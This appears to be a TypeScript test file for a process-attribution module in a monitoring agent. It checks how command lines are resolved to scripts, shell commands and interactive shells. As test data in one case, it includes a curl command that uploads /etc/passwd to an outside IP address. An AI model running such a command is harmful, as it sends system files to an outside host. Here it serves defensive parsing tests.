import fc from 'fast-check'
import t from 'tap'
import {
  isInteractiveShell,
  isShell,
  programName,
  scriptOf,
  shellCommandOf,
  unwrapped,
} from '../../../agent/correlate/actor.ts'
import { holds } from '../../support/holds.ts'

const process = (...args: string[]) => ({ pid: 7, args, workingDirectory: '/srv/job' })

const scripts: Record<string, readonly string[]> = {
  '/opt/backup.sh': ['/bin/sh', '/opt/backup.sh'],
  '/opt/b.sh': ['/usr/bin/bash', '-e', '-o', 'pipefail', '/opt/b.sh', '--now'],
  '/srv/job/x.py': ['python3.11', '-u', './x.py', 'arg'],
  '/srv/up.py': ['/usr/bin/python3', '-W', 'ignore', '../up.py'],
  '/opt/a.pl': ['perl', '-w', '/opt/a.pl'],
  '/opt/c.sh': ['env', 'A=1', 'nice', '-n', '5', 'bash', '/opt/c.sh'],
  '/opt/d.sh': ['timeout', '-k', '3', '60', 'sh', '/opt/d.sh'],
  '/opt/e.sh': ['flock', '-n', '/run/lock/e', '/bin/bash', '/opt/e.sh'],
  '/opt/f.py': ['sudo', '-u', 'backup', '-H', 'python3', '/opt/f.py'],
  '/opt/g.sh': ['busybox', 'sh', '/opt/g.sh'],
  '/opt/h.js': ['node', '--require', './hook.js', '/opt/h.js'],
  '/opt/i.jar': ['java', '-Xmx1g', '-cp', 'lib', '-jar', '/opt/i.jar'],
  'http.server': ['python3', '-m', 'http.server'],
}
for (const [script, args] of Object.entries(scripts)) {
  t.test(`${args.join(' ')} is ${script}`, async (t) => t.equal(scriptOf(process(...args)), script))
}

for (const args of [
  ['curl', '-T', '/etc/passwd', 'http://192.0.2.1'],
  ['bash'],
  ['-bash'],
  ['sh', '-c', '/opt/backup.sh'],
  ['bash', '-ec', 'curl x'],
  ['python3', '-c', 'import x', 'y.py'],
  ['perl', '-e', 'print 1', 'x'],
  ['python3', '-'],
  ['sudo', '-u'],
  [],
]) {
  t.test(`${args.join(' ') || 'nothing'} runs no script`, async (t) => {
    t.equal(scriptOf(process(...args)), undefined)
  })
}

t.test("cron's command is what its shell is given, to the letter", async (t) => {
  t.equal(shellCommandOf(process('/bin/sh', '-c', ' cd / && x  ')), ' cd / && x  ')
  t.equal(shellCommandOf(process('nice', 'bash', '-lc', 'x')), 'x')
  t.equal(shellCommandOf(process('/bin/sh', '/opt/x.sh', '-c', 'y')), undefined)
  t.equal(shellCommandOf(process('curl', '-c', 'jar')), undefined)
})

t.test('a shell with neither script nor program is a person', async (t) => {
  t.ok(isInteractiveShell(process('-bash')))
  t.ok(isInteractiveShell(process('/usr/bin/zsh', '-l')))
  t.notOk(isInteractiveShell(process('bash', 'x.sh')))
  t.notOk(isInteractiveShell(process('sh', '-c', 'x')))
  t.notOk(isInteractiveShell(process('vim')))
})

t.test('versions are no part of a program name', async (t) => {
  t.equal(programName('/usr/bin/python3.11'), 'python')
  t.equal(programName('/usr/bin/perl5.36.0'), 'perl')
  t.equal(programName('7z'), '7z')
  t.ok(isShell('dash'))
})

t.test('properties', async (t) => {
  const words = fc.array(
    fc.constantFrom('env', 'sudo', '-u', 'timeout', '5', 'sh', '-c', 'python3', 'x', '--', 'A=1'),
  )
  holds(
    t,
    'any command line has an answer',
    fc.property(words, (args) => {
      scriptOf(process(...args))
      shellCommandOf(process(...args))
      return unwrapped(args).length <= args.length
    }),
  )
})
